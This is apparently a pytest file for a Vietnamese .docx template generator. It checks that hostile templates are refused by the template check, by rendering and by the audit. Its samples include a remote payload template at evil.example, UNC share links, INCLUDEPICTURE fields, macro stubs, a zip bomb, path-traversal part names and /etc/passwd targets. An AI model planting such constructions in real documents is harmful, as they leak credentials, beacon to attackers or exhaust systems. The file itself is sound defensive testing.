"""Templates and .docx files from other people (issue 20, findings 1, 3 and 9).

Each hostile file is the built-in ``ke-hoach.docx`` edited with :mod:`zipfile`: an image linked
to a web server, an attached template, a UNC link, an INCLUDEPICTURE field, a macro, a DOCTYPE,
a ``../`` part name, a part that inflates to 1 GB. Each must be refused by the template check,
by rendering and by the audit, in Vietnamese, located at its part, never with a traceback, and
the bombs within :data:`tests.bounded.PEAK_LIMIT_MB` of memory.
"""

from __future__ import annotations

import http.server
import io
import random
import re
import shutil
import threading
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from docgen.audit import audit_file
from docgen.errors import TemplateError
from docgen.lint import check_template
from docgen.packagecheck import package_problems
from docgen.render import CompiledTemplate, sandboxed_env
from docgen.templates import BUILTIN_DIR
from tests.bounded import PEAK_LIMIT_MB, run_bounded
from tests.conftest import needs_libreoffice

TEMPLATE = "ke-hoach.docx"
BUILTIN = (BUILTIN_DIR / TEMPLATE).read_bytes()
RELS = "word/_rels/document.xml.rels"
OUT = "ngoc-ha/to-dan-pho-5/2026/ke-hoach.docx"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def edit(data: bytes, change: dict[str, bytes | Callable[[bytes], bytes] | None]) -> bytes:
    """``data`` (a .docx) with parts replaced (bytes), edited (a function), removed (None)
    or added (a name not in it)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            body = zin.read(info)
            if info.filename in change:
                new = change[info.filename]
                if new is None:
                    continue
                body = new(body) if callable(new) else new
            zout.writestr(info.filename, body)
        for name, new in change.items():
            if name not in zin.namelist() and isinstance(new, bytes):
                zout.writestr(name, new)
    return out.getvalue()


def _add_rel(rel: str) -> Callable[[bytes], bytes]:
    return lambda body: body.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def _add_to_body(xml: str) -> Callable[[bytes], bytes]:
    def change(body: bytes) -> bytes:
        head, tail = body.rsplit(b"<w:sectPr", 1)
        return head + xml.encode() + b"<w:sectPr" + tail
    return change


def linked_image(url: str) -> str:
    """A paragraph showing a picture linked (not embedded) through relationship rIdLeak."""
    return (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/'
        '2006/wordprocessingDrawing"><wp:extent cx="914400" cy="914400"/><wp:docPr id="99" '
        'name="leak"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:nvPicPr><pic:cNvPr id="99" name="leak.png"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip xmlns:r="{_R}" r:link="rIdLeak"/><a:stretch><a:fillRect/>'
        '</a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" '
        'cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>'
        '</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
    ), (
        f'<Relationship Id="rIdLeak" Type="{_R}/image" Target="{url}" TargetMode="External"/>'
    )


def with_linked_image(data: bytes, url: str) -> bytes:
    body, rel = linked_image(url)
    return edit(data, {RELS: _add_rel(rel), "word/document.xml": _add_to_body(body)})


def _settings_with_template(body: bytes) -> bytes:
    return re.sub(
        rb"(<w:settings[^>]*>)",
        lambda m: m.group(1) + f'<w:attachedTemplate xmlns:r="{_R}" r:id="rIdT"/>'.encode(),
        body,
        count=1,
    )


ATTACHED = {
    "word/settings.xml": _settings_with_template,
    "word/_rels/settings.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://'
        'schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" '
        f'Type="{_R}/attachedTemplate" Target="http://evil.example/payload.dotm" '
        'TargetMode="External"/></Relationships>'
    ).encode(),
}
MACRO = {
    "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really a VBA project",
    "[Content_Types].xml": lambda body: body.replace(
        b"wordprocessingml.document.main+xml", b"wordprocessingml.document.main+xml"
    ).replace(
        b"</Types>",
        b'<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.'
        b'vbaProject"/></Types>',
    ),
}
MACRO_MAIN = {
    "[Content_Types].xml": lambda body: body.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    ),
}
DOCTYPE = {
    "word/styles.xml": lambda body: re.sub(
        rb"^(<\?xml[^>]*\?>)?",
        lambda m: (m.group(1) or b"") + b'<!DOCTYPE w:styles [<!ENTITY x "xxxxxxxx">]>',
        body,
        count=1,
    ),
}


def _hostile() -> dict[str, tuple[bytes, str]]:
    """name -> (template bytes, the rule code expected)."""
    body, rel = linked_image("http://127.0.0.1:18777/leak.png")
    unc_body, unc_rel = linked_image("\\\\evil.example\\share\\leak.png")
    return {
        "anh-http": (with_linked_image(BUILTIN, "http://127.0.0.1:18777/leak.png"), "lien-ket-ngoai"),
        "anh-unc": (edit(BUILTIN, {RELS: _add_rel(unc_rel), "word/document.xml": _add_to_body(unc_body)}),
                    "lien-ket-ngoai"),
        "unc-noi-bo": (edit(BUILTIN, {RELS: _add_rel(
            f'<Relationship Id="rIdU" Type="{_R}/image" Target="\\\\evil.example\\share\\a.png"/>'
        )}), "lien-ket-ngoai"),
        "mau-dinh-kem": (edit(BUILTIN, dict(ATTACHED)), "mau-dinh-kem"),
        "includepicture": (edit(BUILTIN, {"word/document.xml": _add_to_body(
            '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://127.0.0.1:18777/x.png&quot; \\d ">'
            "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
        )}), "truong-lien-ket"),
        "includetext-tach": (edit(BUILTIN, {"word/document.xml": _add_to_body(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE'
            '</w:instrText></w:r><w:r><w:instrText>TEXT "\\\\\\\\host\\\\s\\\\a.docx" </w:instrText>'
            '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )}), "truong-lien-ket"),
        "macro": (edit(BUILTIN, dict(MACRO)), "macro"),
        "macro-kieu-chinh": (edit(BUILTIN, dict(MACRO_MAIN)), "macro"),
        "activex": (edit(BUILTIN, {"word/activeX/activeX1.xml": b"<ax/>"}), "activex"),
        "ole": (edit(BUILTIN, {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "nhung"),
        "doctype": (edit(BUILTIN, dict(DOCTYPE)), "doctype"),
    }


HOSTILE = _hostile()


def _dotdot(data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info))
        zout.writestr("../../evil.xml", b"<x/>")
    return out.getvalue()


# ----------------------------------------------------------------- the policy, pure


def test_builtin_templates_have_no_package_problem() -> None:
    for path in sorted(BUILTIN_DIR.glob("*.docx")):
        with zipfile.ZipFile(path) as archive:
            parts = [(i.filename, archive.read(i)) for i in archive.infolist()]
        assert package_problems(parts) == [], path.name


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_policy_finds_each_hostile_part(name: str) -> None:
    data, rule = HOSTILE[name]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = [(i.filename, archive.read(i)) for i in archive.infolist()]
    found = [f for f in package_problems(parts) if f.is_error]
    assert rule in {f.rule for f in found}, found
    assert all(f.part and re.search(r"[^\x00-\x7f]", f.message)
               for f in found)


def test_a_part_without_content_type_is_an_error_and_an_odd_type_a_warning() -> None:
    data = edit(BUILTIN, {
        "word/extra.xml": b"<x/>",
        "[Content_Types].xml": lambda b: b.replace(b'<Default Extension="xml" ContentType="application/xml"/>', b"")
        .replace(b"</Types>", b'<Default Extension="bin" ContentType="application/x-odd"/></Types>'),
        "word/thing.bin": b"\x00",
    })
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = [(i.filename, archive.read(i)) for i in archive.infolist()]
    found = {(f.part, f.rule, f.severity) for f in package_problems(parts)}
    assert ("word/extra.xml", "kieu-noi-dung", "lỗi") in found
    assert ("word/thing.bin", "thanh-phan-la", "cảnh báo") in found


# ----------------------------------------------------------------- templates check and render


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_templates_check_reports_it_and_render_refuses_it(name: str, tmp_path: Path) -> None:
    data, rule = HOSTILE[name]
    path = tmp_path / TEMPLATE
    path.write_bytes(data)
    findings = check_template(path)
    errors = [f for f in findings if f.is_error]
    assert rule in {f.rule for f in errors}, [f.format() for f in findings]
    assert all(f.place and f.place.startswith("phần ") for f in errors if f.rule == rule)
    with pytest.raises(TemplateError) as caught:
        CompiledTemplate.load(path, sandboxed_env())
    assert caught.value.place and caught.value.place.startswith("phần ")
    assert str(caught.value).startswith(f"mẫu {TEMPLATE}: phần ")


def test_a_dotdot_part_name_is_refused(tmp_path: Path) -> None:
    path = tmp_path / TEMPLATE
    path.write_bytes(_dotdot(BUILTIN))
    assert [f.format() for f in check_template(path) if f.is_error] == [
        f"mẫu {TEMPLATE}: tệp .docx bị từ chối: tên phần không an toàn «../../evil.xml»"
    ]
    with pytest.raises(TemplateError, match="tên phần không an toàn"):
        CompiledTemplate.load(path, sandboxed_env())


def test_the_output_is_exactly_the_template_parts(tmp_path: Path) -> None:
    from docgen.contract import contract_for

    path = tmp_path / TEMPLATE
    path.write_bytes(BUILTIN)
    compiled = CompiledTemplate.load(path, sandboxed_env())
    contract = contract_for(TEMPLATE)
    assert contract is not None
    out = compiled.render(contract.sample_context())
    with zipfile.ZipFile(io.BytesIO(BUILTIN)) as a, zipfile.ZipFile(io.BytesIO(out)) as b:
        assert b.namelist() == a.namelist()
        parts = [(i.filename, b.read(i)) for i in b.infolist()]
    assert package_problems(parts) == []


def _workspace_with(sample_ws: Path, data: bytes) -> Path:
    folder = sample_ws.parent / "mau"
    folder.mkdir(exist_ok=True)
    (folder / TEMPLATE).write_bytes(data)
    return folder


def test_cli_render_and_check_refuse_a_linked_image(sample_ws: Path) -> None:
    data, _ = HOSTILE["anh-http"]
    _workspace_with(sample_ws, data)
    cwd = sample_ws.parent
    check = run_bounded(["templates", "check", "mau"], cwd, timeout=120)
    assert check.returncode == 1, check.output
    assert "Traceback" not in check.output
    assert "Lỗi: mẫu mau/ke-hoach.docx: phần word/_rels/document.xml.rels: có liên kết ra ngoài" in check.output
    render = run_bounded(
        ["render", "ke-hoach", "--nam", "2026", "--chi-bo", "to-dan-pho-5", "--templates", "mau", "-o", "out"],
        cwd, timeout=120,
    )
    assert render.returncode == 1, render.output
    assert "Traceback" not in render.output and "có liên kết ra ngoài" in render.output
    assert not (cwd / "out" / OUT).exists()


# ----------------------------------------------------------------- audit


@pytest.fixture(scope="module")
def issued(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """A document rendered from the built-in template (what docgen issues)."""
    from docgen.contract import contract_for

    folder = tmp_path_factory.mktemp("issued")
    (folder / TEMPLATE).write_bytes(BUILTIN)
    contract = contract_for(TEMPLATE)
    assert contract is not None
    return CompiledTemplate.load(folder / TEMPLATE, sandboxed_env()).render(contract.sample_context())


@pytest.mark.parametrize("name, change, rule", [
    ("anh", None, "goi.lien-ket-ngoai"),
    ("mau-dinh-kem", ATTACHED, "goi.mau-dinh-kem"),
    ("macro", MACRO, "goi.macro"),
    ("doctype", DOCTYPE, "tep"),  # styles.xml is needed to audit: the file is unreadable
])
def test_audit_does_not_call_a_hostile_docx_correct(
    issued: bytes, tmp_path: Path, name: str, change: dict | None, rule: str
) -> None:
    clean = tmp_path / "sach.docx"
    clean.write_bytes(issued)
    assert not [d for d in audit_file(clean) if d.rule.startswith("goi.")]
    data = with_linked_image(issued, "http://127.0.0.1:18777/a.png") if change is None else edit(issued, dict(change))
    path = tmp_path / f"{name}.docx"
    path.write_bytes(data)
    found = [d for d in audit_file(path) if d.rule.startswith("goi.") or d.rule == "tep"]
    assert rule in {d.rule for d in found}, found
    assert all(d.where.startswith("phần ") for d in found)


# ----------------------------------------------------------------- bombs (finding 3)


@pytest.fixture(scope="module")
def bomb(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """ke-hoach.docx with one more part that inflates to 1 GB (about 1 MB stored)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(BUILTIN)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info))
        chunk = b"\0" * (1 << 20)
        with zout.open("word/bom.xml", "w", force_zip64=True) as part:
            for _ in range(1024):
                part.write(chunk)
    data = out.getvalue()
    assert len(data) < 2 * 1024 * 1024
    return data


def _no_traceback_within_memory(result, needle: str) -> None:  # type: ignore[no-untyped-def]
    assert result.returncode == 1, result.output
    assert "Traceback" not in result.output and "MemoryError" not in result.output
    assert needle in result.output, result.output
    assert result.peak_mb < PEAK_LIMIT_MB, result.peak_mb


def test_a_bomb_template_is_refused_within_memory(sample_ws: Path, bomb: bytes) -> None:
    _workspace_with(sample_ws, bomb)
    cwd = sample_ws.parent
    check = run_bounded(["templates", "check", "mau"], cwd, memory_mb=2048, timeout=120)
    _no_traceback_within_memory(check, "mẫu mau/ke-hoach.docx: phần word/bom.xml: tệp .docx bị từ chối")
    render = run_bounded(
        ["render", "ke-hoach", "--nam", "2026", "--chi-bo", "to-dan-pho-5", "--templates", "mau", "-o", "out"],
        cwd, memory_mb=2048, timeout=120,
    )
    _no_traceback_within_memory(render, "tệp .docx bị từ chối")
    assert not (cwd / "out" / OUT).exists()


def test_audit_of_a_bomb_is_refused_within_memory(tmp_path: Path, bomb: bytes) -> None:
    (tmp_path / "bom.docx").write_bytes(bomb)
    result = run_bounded(["audit", "bom.docx"], tmp_path, memory_mb=2048, timeout=120)
    _no_traceback_within_memory(result, "tệp .docx bị từ chối")


# ----------------------------------------------------------------- LibreOffice reaches no network


class _Counter(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802
        type(self).hits.append(self.path)
        self.send_response(404)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def server() -> Iterator[tuple[str, list[str]]]:
    class Handler(_Counter):
        hits: list[str] = []

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}", Handler.hits
    finally:
        httpd.shutdown()
        httpd.server_close()


@pytest.mark.libreoffice
@needs_libreoffice
def test_batch_pdf_with_a_linked_image_template_makes_no_request(
    sample_ws: Path, server: tuple[str, list[str]]
) -> None:
    url, hits = server
    annual = (BUILTIN_DIR / "bao-cao-nam.docx").read_bytes()  # a kind docgen batch makes
    folder = _workspace_with(sample_ws, BUILTIN)
    (folder / TEMPLATE).unlink()
    (folder / "bao-cao-nam.docx").write_bytes(with_linked_image(annual, f"{url}/leak.png"))
    result = run_bounded(
        ["batch", "--nam", "2026", "--templates", "mau", "-o", "out", "--pdf", "-j", "1"],
        sample_ws.parent, memory_mb=4096, timeout=600,
    )
    assert "Traceback" not in result.output
    assert "có liên kết ra ngoài" in result.output, result.output
    assert hits == []


@pytest.mark.libreoffice
@needs_libreoffice
def test_pdf_convert_of_a_linked_image_makes_no_request(
    issued: bytes, tmp_path: Path, server: tuple[str, list[str]]
) -> None:
    """The second wall: LibreOffice's own settings, for a .docx that never was a template."""
    from docgen.pdf import convert

    url, hits = server
    path = tmp_path / "tu-lam.docx"
    path.write_bytes(with_linked_image(issued, f"{url}/leak.png"))
    result = convert([path], profile_root=tmp_path / "ho-so")
    assert result.written == [path.with_suffix(".pdf")]
    assert hits == []


# ----------------------------------------------------------------- fuzz


def _mutate(rng: random.Random, data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = [(i.filename, archive.read(i)) for i in archive.infolist()]
    for _ in range(rng.randint(1, 3)):
        index = rng.randrange(len(parts))
        name, body = parts[index]
        kind = rng.randrange(8)
        if kind == 0 and body:  # byte flips
            raw = bytearray(body)
            for _ in range(rng.randint(1, 8)):
                raw[rng.randrange(len(raw))] = rng.randrange(256)
            body = bytes(raw)
        elif kind == 1:  # truncated
            body = body[: rng.randrange(len(body) + 1)]
        elif kind == 2:  # duplicated under another name
            parts.append((name + ".copy" if rng.random() < 0.5 else name.upper(), body))
        elif kind == 3:  # renamed
            name = rng.choice(["word/document2.xml", "word/x.rels", "Word/document.xml", name + "x"])
        elif kind == 4:  # an injected relationship
            target = rng.choice(["http://127.0.0.1:9/x", "\\\\h\\s\\x", "file:///etc/passwd", "../../x"])
            mode = rng.choice(['TargetMode="External"', ""])
            rel = f'<Relationship Id="rIdF" Type="{_R}/image" Target="{target}" {mode}/>'
            body = body.replace(b"</Relationships>", rel.encode() + b"</Relationships>")
        elif kind == 5:  # an injected DOCTYPE
            body = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]>' + re.sub(rb"^<\?xml[^>]*\?>", b"", body)
        elif kind == 6:  # a part removed
            parts.pop(index)
            continue
        else:  # a tag-looking text in the body
            body = body.replace(b"</w:t>", b"{{ x </w:t>", 1)
        parts[index] = (name, body)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        seen: set[str] = set()
        for name, body in parts:
            if name in seen:
                continue
            seen.add(name)
            zout.writestr(name, body)
    data = out.getvalue()
    if rng.random() < 0.1:
        data = data[: rng.randrange(len(data))]
    return data


def _fuzz(cases: int, seed: int, tmp_path: Path) -> None:
    rng = random.Random(seed)
    sources = [BUILTIN, (BUILTIN_DIR / "bao-cao-quy.docx").read_bytes()]
    for case in range(cases):
        source = sources[case % len(sources)]
        name = TEMPLATE if source is BUILTIN else "bao-cao-quy.docx"
        path = tmp_path / name
        path.write_bytes(_mutate(rng, source))
        try:
            CompiledTemplate.load(path, sandboxed_env())
        except TemplateError as exc:
            assert str(exc).startswith(f"mẫu {name}"), exc
        findings = check_template(path, layout=case % 4 == 0)
        for finding in findings:
            assert finding.template == name and finding.message
        shutil.copy(path, tmp_path / "audit.docx")
        for deviation in audit_file(tmp_path / "audit.docx"):
            assert deviation.message


def test_fuzz_templates_short(tmp_path: Path) -> None:
    _fuzz(30, 20, tmp_path)


@pytest.mark.slow
def test_fuzz_templates_long(tmp_path: Path) -> None:
    _fuzz(400, 2020, tmp_path)


# ----------------------------------------------------------------- after the outside review


def _parts(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(i.filename, archive.read(i)) for i in archive.infolist()]


def test_a_field_spelled_by_tags_is_refused_when_rendered(tmp_path: Path) -> None:
    """A template whose tags build INCLUDEPICTURE passes the template check (the field is not
    there yet); the rendered part is held to the same policy, so nothing is issued."""
    from docgen.contract import contract_for

    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        '{{ "INCLUDE" ~ "PICTURE" }} "http://127.0.0.1:18777/x.png" \\d</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    path = tmp_path / TEMPLATE
    path.write_bytes(edit(BUILTIN, {"word/document.xml": _add_to_body(field)}))
    compiled = CompiledTemplate.load(path, sandboxed_env())
    contract = contract_for(TEMPLATE)
    assert contract is not None
    with pytest.raises(TemplateError, match="văn bản mẫu sinh ra, ở phần word/document.xml, có trường INCLUDEPICTURE"):
        compiled.render(contract.sample_context())


def test_a_vml_image_fetched_by_address_is_refused() -> None:
    vml = (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:10pt;height:10pt">'
        '<v:imagedata src="http://127.0.0.1:18777/x.png"/></v:shape></w:pict></w:r></w:p>'
    )
    found = package_problems(_parts(edit(BUILTIN, {"word/document.xml": _add_to_body(vml)})))
    assert ("word/document.xml", "anh-lien-ket") in {(f.part, f.rule) for f in found if f.is_error}


def test_a_part_no_relationship_reaches_is_refused() -> None:
    """A part carried unseen (an executable named image1.png, 12 MB of anything)."""
    data = edit(BUILTIN, {"word/media/image9.png": b"MZ\x90\x00" + b"\x00" * 1000})
    found = {(f.part, f.rule) for f in package_problems(_parts(data)) if f.is_error}
    assert ("word/media/image9.png", "thanh-phan-thua") in found


def test_an_internal_target_climbing_out_of_the_package_is_refused() -> None:
    rel = (
        f'<Relationship Id="rId99" Type="{_R}/image" Target="../../../../etc/passwd"/>'
    )
    found = package_problems(_parts(edit(BUILTIN, {RELS: _add_rel(rel)})))
    assert any(f.rule == "lien-ket-ngoai" and "ra ngoài gói" in f.message for f in found if f.is_error)
